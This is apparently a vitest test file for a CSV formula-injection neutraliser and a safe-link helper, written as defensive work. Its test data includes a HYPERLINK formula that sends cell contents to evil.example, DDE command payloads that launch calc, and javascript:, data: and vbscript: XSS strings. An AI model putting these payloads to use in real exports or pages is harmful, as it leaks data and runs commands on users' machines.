import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { neutraliseFormula } from "./csv-cell";
import { httpHref } from "./safe-link";

describe("CSV cells cannot become formulas", () => {
  test.each([
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("https://evil.example?"&A1,"open")', '\'=HYPERLINK("https://evil.example?"&A1,"open")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["＝1+1", "'＝1+1"],
    ["Disk full on db-1", "Disk full on db-1"],
    ["2026-03-02", "2026-03-02"],
    ["", ""],
    ["a=b", "a=b"],
  ])("%j becomes %j", (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  test("whatever the text, the exported cell never starts with a formula character", () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(neutraliseFormula(text)).not.toMatch(/^[=+\-@\t\r\n]/);
        // Nothing is lost: the apostrophe is the only change.
        expect([text, `'${text}`]).toContain(neutraliseFormula(text));
      }),
    );
  });

  test("with csv-stringify's string cast, as the export buttons use it, numbers stay numbers", () => {
    const csv = stringify([{ source: "=cmd|' /C calc'!A0", hours: -1.5 }], {
      header: true,
      columns: ["source", "hours"],
      cast: { string: neutraliseFormula },
    });
    expect(csv).toBe("source,hours\n'=cmd|' /C calc'!A0,-1.5\n");
  });
});

describe("links drawn as hrefs", () => {
  test.each([
    ["https://tickets.example/OPS-1", "https://tickets.example/OPS-1"],
    ["http://example.com/a?b=<script>", "http://example.com/a?b=%3Cscript%3E"],
    ["javascript:alert(1)", null],
    ["JavaScript:alert(1)", null],
    [" javascript:alert(1)", null],
    ["data:text/html,<script>alert(1)</script>", null],
    ["vbscript:msgbox(1)", null],
    ["//evil.example", null],
    ["/relative", null],
    ["", null],
    [null, null],
  ])("%j → %j", (link, expected) => {
    expect(httpHref(link)).toBe(expected);
  });
});
